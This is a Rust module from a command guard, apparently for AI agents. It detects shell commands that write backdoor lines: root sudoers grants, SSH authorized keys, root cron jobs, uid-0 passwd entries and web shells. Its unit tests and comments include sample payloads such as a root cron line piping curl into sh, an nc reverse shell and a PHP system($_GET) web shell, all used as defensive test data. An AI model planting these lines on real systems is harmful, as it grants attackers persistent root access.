//! Ways in, recognised by their text wherever they are written. Some lines have one use: a
//! sudoers rule that grants root (`dev ALL=(ALL) NOPASSWD: ALL`), an SSH public key (`ssh-ed25519
//! AAAA..`, the line `authorized_keys` holds), a system crontab line run as root (`* * * * *
//! root CMD`) and a password-file entry with uid 0 (`x::0:0::/root:/bin/sh`). Where such a line
//! is written decides whether it opens the machine, and the destination is often what the guard
//! cannot see: a program's own output option (`screen -L FILE`, LaTeX's `\openout`), a file
//! split or copied later (`csplit`), a path built at run time. So the line itself is judged:
//!
//! - handed to a program that takes it in (its words, or its stdin) and may put it anywhere:
//!   blocked when that program runs as root or is handed a path outside the workspace, warned
//!   otherwise (a key registered with an account, a rule quoted in a pull request);
//! - printed (`echo`, `printf`, `cat <<EOF`) or passed on through filters into a file (a
//!   redirect, `tee FILE`, `dd of=`): blocked, unless the file is in the workspace (a
//!   provisioning role or a cloud-init file of the project holds such lines: warned);
//! - shown on the terminal or searched for (`grep`, `rg`, `test`, `ssh-keygen -l`): nothing.
//!
//! A key after a host pattern (`known_hosts`) or a principal (git's `allowed_signers`) and
//! root's own passwd entry are not ways in. The destination rules (sudoers, `authorized_keys`,
//! cron) still judge the known places on their own; this reads the text they cannot follow.

use super::place::{place_of, Place};
use crate::guard::carriers::{output_of, printed_text};
use crate::guard::needles::Needles;
use crate::guard::regexes::Pattern;
use crate::guard::rules::privilege::{SSH_ACCESS, SUDOERS, USER_GROUPS};
use crate::guard::rules::{block, warn};
use crate::guard::verdict::{Category, Risk, Violation};
use crate::guard::{GuardContext, Pipeline, SimpleCommand};

/// A line that lets someone in, by what it grants.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Payload {
    /// A sudoers rule granting every command as root (`u ALL=(ALL) NOPASSWD: ALL`).
    RootGrant,
    /// An SSH public key as `authorized_keys` holds it.
    AuthorizedKey,
    /// A system crontab line run as root (`* * * * * root CMD`, `@reboot root CMD`).
    RootCronLine,
    /// A password-file entry with uid 0 (`x::0:0::/root:/bin/sh`).
    RootAccount,
    /// A web shell: server code that runs what a request sends (`<?php system($_GET["c"]);
    /// ?>`, JSP's `Runtime.getRuntime().exec(request.getParameter(..))`).
    WebShell,
}

impl Payload {
    fn what(self) -> &'static str {
        match self {
            Payload::RootGrant => "a sudoers rule that grants root",
            Payload::AuthorizedKey => "an SSH public key (an authorized_keys line: a login for its holder)",
            Payload::RootCronLine => "a system crontab line that runs a command as root",
            Payload::RootAccount => "a password-file entry with uid 0 (a second root account)",
            Payload::WebShell => "a web shell (server code that runs the commands a request sends)",
        }
    }

    fn rule(self) -> (Category, &'static str) {
        match self {
            Payload::RootGrant => (Category::Privilege, SUDOERS),
            Payload::AuthorizedKey => (Category::Privilege, SSH_ACCESS),
            Payload::RootCronLine => (Category::Persistence, super::judge::SCHEDULED),
            Payload::RootAccount => (Category::Privilege, USER_GROUPS),
            Payload::WebShell => (Category::Persistence, WEB_SHELL),
        }
    }
}

/// `ALL=(ALL) ALL`, `ALL=(ALL:ALL) NOPASSWD: ALL`, `ALL=(#0) ALL`, `ALL=ALL` (no run-as list:
/// root), tags before the commands (`NOPASSWD: SETENV: ALL`), a bare `NOPASSWD: ALL`, and a
/// password-free shell (`NOPASSWD: /bin/bash`).
static ROOT_GRANT: Pattern = Pattern::new(
    r"(?i)\bALL\s*=\s*(\(\s*(ALL|root|#0)\s*(:\s*(ALL|root|#0)\s*)?\)\s*)?(\w+\s*:\s*)*ALL\b|\bNOPASSWD\s*:\s*((\w+\s*:\s*)*ALL\b|(/usr)?/s?bin/(ba|z|da|k|c|tc|fi)?sh\b|(/usr)?/bin/su\b)",
);
/// An OpenSSH public key: its type, then the base64 blob, which starts `AAAA`.
static PUBLIC_KEY: Pattern = Pattern::new(
    r"\b(ssh-(ed25519|rsa|dss)|ecdsa-sha2-nistp(256|384|521)|sk-(ssh-ed25519|ecdsa-sha2-nistp256)@openssh\.com)\s+AAAA[0-9A-Za-z+/]{16,}",
);
/// Five schedule fields (months and days by number or name) or an `@` schedule, then the user
/// `root`, then a command; at the start of a line or of a quoted or braced text
/// (`\write\f{* * * * * root ..}`).
static ROOT_CRON: Pattern = Pattern::new(
    r"(?im)(^|[\s{'\x22(])(@(reboot|hourly|daily|midnight|weekly|monthly|yearly|annually)\s+|([0-9*/,-]+\s+){3}([0-9*/,-]+|(jan|feb|mar|apr|may|jun|jul|aug|sep|oct|nov|dec)[a-z,-]*)\s+([0-9*/,-]+|(sun|mon|tue|wed|thu|fri|sat)[a-z,-]*)\s+)root\s+\S",
);
/// `persistence.web_shell`: [`Payload::WebShell`].
pub const WEB_SHELL: &str = "persistence.web_shell";

/// A call that runs a command or code, handed a request's parameter: PHP's superglobals, JSP's
/// and ASP's request objects.
static WEB_SHELL_CALL: Pattern = Pattern::new(
    r"(?i)\b(system|exec|passthru|shell_exec|popen|proc_open|eval|assert|pcntl_exec|runtime\.getruntime\(\)\.exec)\s*\(\s*(@?\$_(GET|POST|REQUEST|COOKIE|SERVER)\b|request\.getparameter|request\s*\(|request\.(form|querystring|item))",
);

/// `name:password:0:gid:...`: uid 0 in the third field.
static ROOT_ENTRY: Pattern = Pattern::new(r"(?m)^[A-Za-z_][A-Za-z0-9_.-]*\$?:[^:\s]*:0+:[0-9]+:[^:\n]*:[^:\n]*:");

/// Whether `text` holds a word every way in has (`ALL`, `AAAA`, `root`, `:0`): the cheap test
/// that spares most texts the patterns.
fn might_hold(text: &str) -> bool {
    static MARKERS: Needles = Needles::exact(&["ALL", "AAAA", "root", ":0", "$_", "equest"]);
    MARKERS.found_in(text)
}

/// The way in `text` holds, if any. Cheap words are looked for first: most texts hold none.
pub(super) fn payload_in(text: &str) -> Option<Payload> {
    // Each pattern is compiled the first time a text passes its cheap test: a one-shot hook
    // process pays for none of them on `cat /root/notes`.
    if text.contains("ALL") && text.contains('=') && ROOT_GRANT.find_at(text, 0).is_some()
        || text.contains("NOPASSWD") && ROOT_GRANT.find_at(text, 0).is_some()
    {
        return Some(Payload::RootGrant);
    }
    if text.contains("AAAA") && authorized_key_in(text) {
        return Some(Payload::AuthorizedKey);
    }
    if text.contains("root") && (text.contains("* ") || text.contains('@')) && ROOT_CRON.find_at(text, 0).is_some() {
        return Some(Payload::RootCronLine);
    }
    if text.contains(":0") && text.contains(":/") && second_root_in(text) {
        return Some(Payload::RootAccount);
    }
    if (text.contains("$_") || text.contains("equest")) && WEB_SHELL_CALL.find_at(text, 0).is_some() {
        return Some(Payload::WebShell);
    }
    None
}

/// Whether a public key in `text` is written as `authorized_keys` holds it: alone, or after
/// that file's options (`restrict,command=".."`, `no-pty`). After a host pattern
/// (`github.com ssh-ed25519 ..`: a `known_hosts` line) or a principal (`me@x.com ssh-ed25519
/// ..`: git's `allowed_signers`) it lets nobody in.
fn authorized_key_in(text: &str) -> bool {
    let mut at = 0;
    while let Some(found) = PUBLIC_KEY.find_at(text, at) {
        let line_start = text[..found.start].rfind('\n').map_or(0, |n| n + 1);
        let before = text[line_start..found.start].split_whitespace().last();
        let host_or_principal = before.is_some_and(|field| {
            let field = field.trim_matches(['\'', '"']);
            !field.contains('=') && (field.contains(['.', ':', '[', '@', '*', '?', ',']) || field.starts_with('|'))
        });
        if !host_or_principal {
            return true;
        }
        at = found.end;
    }
    false
}

/// Whether `text` holds a passwd entry with uid 0 for an account other than root itself (the
/// usual first line of any passwd file is not a second root).
fn second_root_in(text: &str) -> bool {
    ROOT_ENTRY
        .captures_iter(text)
        .filter_map(|g| g[0].clone())
        .any(|span| !text[span].starts_with("root:"))
}

/// Programs that only look at the text they are given (search for it, test it, show its
/// fingerprint): it goes nowhere.
const LOOKERS: &[&str] = &[
    "grep",
    "egrep",
    "fgrep",
    "rg",
    "ag",
    "ack",
    "git",
    "test",
    "[",
    "[[",
    "ssh-keygen",
    "visudo",
    "wc",
    "diff",
    "cmp",
    "comm",
    "file",
    "md5sum",
    "sha1sum",
    "sha256sum",
    "sha512sum",
    "b2sum",
    "cksum",
    "true",
    ":",
    "false",
    "expr",
    "less",
    "more",
    "most",
];

/// Whether program `name` only looks at its words ([`LOOKERS`]): code it is handed is searched
/// for or tested, never run. (A printer's output may be a script run later.)
pub(super) fn only_looks(name: &str) -> bool {
    LOOKERS.contains(&name)
}

/// Programs that print what they read, or a part of it: the text goes where their output goes.
const PASSERS: &[&str] = &[
    "cat", "head", "tail", "sort", "uniq", "tr", "sed", "gsed", "awk", "gawk", "mawk", "cut", "fold", "fmt", "column",
    "nl", "tac", "stdbuf", "paste", "expand", "unexpand", "envsubst",
];

/// Programs that print their own words.
const PRINTERS: &[&str] = &["echo", "printf", "print"];

/// The text stage `i` reads on stdin: its here-document or here-string, what the stages before
/// it print, or the words of an `echo`/`printf` just before it as written (`echo "$U
/// ALL=(ALL) ALL"`: the line is there whatever `$U` holds).
fn fed(pipeline: &Pipeline, i: usize) -> Option<String> {
    let cmd = &pipeline[i];
    if let Some(t) = &cmd.stdin_text {
        return Some(t.clone());
    }
    let k = i.checked_sub(1)?;
    output_of(pipeline, k).or_else(|| {
        let up = &pipeline[k];
        PRINTERS.contains(&up.name()).then(|| up.argv[1..].join(" "))
    })
}

/// The files a stage writes what it prints or passes on to: its redirects (other than the
/// harmless devices), `tee`'s operands, `dd`'s `of=`.
fn destinations(cmd: &SimpleCommand) -> Vec<&str> {
    let mut out: Vec<&str> = cmd.redirects.iter().map(String::as_str).collect();
    match cmd.name() {
        "tee" => out.extend(cmd.argv[1..].iter().filter(|a| !a.starts_with('-')).map(String::as_str)),
        "dd" => out.extend(cmd.argv[1..].iter().filter_map(|a| a.strip_prefix("of="))),
        _ => {}
    }
    out
}

/// Whether `cmd` passes on the text it reads unchanged in substance: a `grep` that counts,
/// lists names or is quiet prints no line of it.
fn passes_on(cmd: &SimpleCommand) -> bool {
    let name = cmd.name();
    let grep_summary = cmd.argv[1..].iter().any(|a| {
        matches!(
            a.as_str(),
            "--count" | "--quiet" | "--silent" | "--files-with-matches" | "--files-without-match"
        ) || (a.starts_with('-') && !a.starts_with("--") && a[1..].chars().any(|c| matches!(c, 'c' | 'q' | 'l' | 'L')))
    });
    match name {
        "grep" | "egrep" | "fgrep" | "rg" => !grep_summary,
        "tee" => true,
        _ => PASSERS.contains(&name),
    }
}

/// Stage `i` of `pipeline` puts a way in somewhere: see the module doc.
pub(super) fn planted(pipeline: &Pipeline, i: usize, ctx: &GuardContext<'_>, out: &mut Vec<Violation>) {
    let cmd = &pipeline[i];
    let name = cmd.name();
    if cmd.upstream_copy {
        return;
    }
    let printer = PRINTERS.contains(&name);
    // An in-place edit writes its script's text into its files (`sed -i '$a LINE' F`): it
    // takes the line in, as any program handed it does.
    let editor = matches!(name, "sed" | "gsed" | "perl") && super::judge::in_place(cmd);
    let carries = (passes_on(cmd) || name == "dd") && !editor;
    // sed's and awk's own scripts print text of their own (`awk 'BEGIN{print "LINE"}' > F`,
    // `sed '1i LINE'`): for sed and perl edits, only what the script writes (a replacement,
    // an appended or inserted line), never the pattern it looks for (`/NOPASSWD: ALL/d`).
    let sed_like = matches!(name, "sed" | "gsed" | "perl");
    let script_text = || -> Option<String> {
        if sed_like {
            let (scripts, _) = super::judge::edit_scripts(cmd);
            let (written, _) = super::settings::edit_script(&scripts.join("\n"));
            Some(written)
        } else if matches!(name, "awk" | "gawk" | "mawk" | "nawk") {
            Some(cmd.argv[1..].join("\n"))
        } else {
            None
        }
    };
    // Most commands hold none of the words every way in has: their text is not gathered.
    let marked = || cmd.argv[1..].iter().any(|a| might_hold(a));
    let fed_text = || {
        (cmd.stdin_text.is_some() || i > 0)
            .then(|| fed(pipeline, i))
            .flatten()
            .filter(|t| might_hold(t))
    };
    // What the stage holds or reads; for a printer or a filter it goes on to its output. A
    // taker's words are read one by one: each is a text of its own.
    let payload = if printer {
        marked()
            .then(|| printed_text(cmd).unwrap_or_else(|| cmd.argv[1..].join(" ")))
            .and_then(|t| payload_in(&t))
    } else if carries {
        let own = || marked().then(script_text).flatten().and_then(|t| payload_in(&t));
        fed_text().and_then(|t| payload_in(&t)).or_else(own)
    } else if LOOKERS.contains(&name) {
        None
    } else if editor {
        marked().then(script_text).flatten().and_then(|t| payload_in(&t))
    } else {
        cmd.argv[1..]
            .iter()
            .filter(|a| might_hold(a))
            .find_map(|a| payload_in(a))
            .or_else(|| fed_text().and_then(|t| payload_in(&t)))
    };
    let Some(payload) = payload else {
        return;
    };
    let (category, rule) = payload.rule();
    let cwd = cmd.cwd.as_deref();
    if !(printer || carries) {
        // As root, or handed a path outside the workspace (the program's own word included:
        // `screen -L ~/.ssh/authorized_keys echo KEY` leaves that path as what `screen`
        // runs), it can put the line where it opens the machine; otherwise it may be a
        // key registered with an account or a rule quoted in a message: asked about.
        let outside = cmd
            .argv
            .iter()
            .chain(&cmd.redirects)
            .filter(|a| a.starts_with(['/', '~', '.']) || a.starts_with("$HOME"))
            .any(|a| !in_workspace(&place_of(a, cwd, ctx.workspace)) && place_of(a, cwd, ctx.workspace) != Place::Sink);
        if cmd.as_root || outside {
            out.push(block(
                category,
                rule,
                Risk::Critical,
                cmd,
                format!("hands {} to `{name}`, which may write it anywhere", payload.what()),
            ));
        } else {
            out.push(warn(
                category,
                rule,
                cmd,
                format!("hands {} to `{name}`, which may write it somewhere", payload.what()),
            ));
        }
        return;
    }
    let places: Vec<(&str, Place)> = destinations(cmd)
        .into_iter()
        .map(|d| (d, place_of(d, cwd, ctx.workspace)))
        .filter(|(_, p)| *p != Place::Sink)
        .collect();
    if let Some((file, _)) = places.iter().find(|(_, p)| !in_workspace(p)) {
        out.push(block(
            category,
            rule,
            Risk::Critical,
            cmd,
            format!("writes {} into `{file}`", payload.what()),
        ));
    } else if let Some((file, _)) = places.first() {
        out.push(warn(
            category,
            rule,
            cmd,
            format!("writes {} into `{file}` in the workspace", payload.what()),
        ));
    }
}

fn in_workspace(place: &Place) -> bool {
    matches!(place, Place::Workspace | Place::WorkspaceAll | Place::DependencyDir)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn each_way_in_is_told_by_its_text() {
        let key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAILurVRjck8S8xY1HNnGcahk9Y3n6N73DcDgzkg591GOf kali@kali";
        for (text, want) in [
            ("dev ALL=(ALL) NOPASSWD: ALL", Some(Payload::RootGrant)),
            ("%wheel ALL=(ALL:ALL) ALL", Some(Payload::RootGrant)),
            ("bob ALL = (root) NOPASSWD:ALL", Some(Payload::RootGrant)),
            ("x NOPASSWD: ALL", Some(Payload::RootGrant)),
            (key, Some(Payload::AuthorizedKey)),
            (
                "ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAI x",
                Some(Payload::AuthorizedKey),
            ),
            ("* * * * * root curl -s x.io | sh", Some(Payload::RootCronLine)),
            ("# jobs\n*/5 0 * * 1-5 root /opt/x", Some(Payload::RootCronLine)),
            (
                "\\write\\f{@reboot root nc -e /bin/sh h 1}",
                Some(Payload::RootCronLine),
            ),
            ("x::0:0::/root:/bin/sh", Some(Payload::RootAccount)),
            ("toor:$1$abc$def:0:0:root:/root:/bin/bash", Some(Payload::RootAccount)),
            // Look-alikes: a user's own crontab line, an ordinary account, a sudoers rule for
            // one command, the word ALL, a key type without its blob, a time of day.
            ("*/10 * * * * /usr/bin/backup", None),
            ("dev:x:1000:1000::/home/dev:/bin/bash", None),
            ("deploy ALL=(ALL) NOPASSWD: /usr/bin/systemctl restart app", None),
            ("SELECT ALL FROM t", None),
            ("ssh-ed25519 is the default key type", None),
            ("started at 10:00:00", None),
        ] {
            assert_eq!(payload_in(text), want, "{text}");
        }
    }

    #[test]
    fn both_forms_of_each_pattern_agree() {
        for pattern in [&ROOT_GRANT, &PUBLIC_KEY, &ROOT_CRON, &ROOT_ENTRY] {
            for text in [
                "u ALL=(ALL) NOPASSWD: ALL",
                "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAB x",
                "\t* * * * *\troot\tx",
                "x::0:0:\x0b:/:",
                "é ALL=(ALL) ALL",
            ] {
                let (ascii, unicode) = pattern.both_forms(text);
                assert_eq!(ascii, unicode, "{} on {text:?}", pattern.source());
            }
        }
    }
}
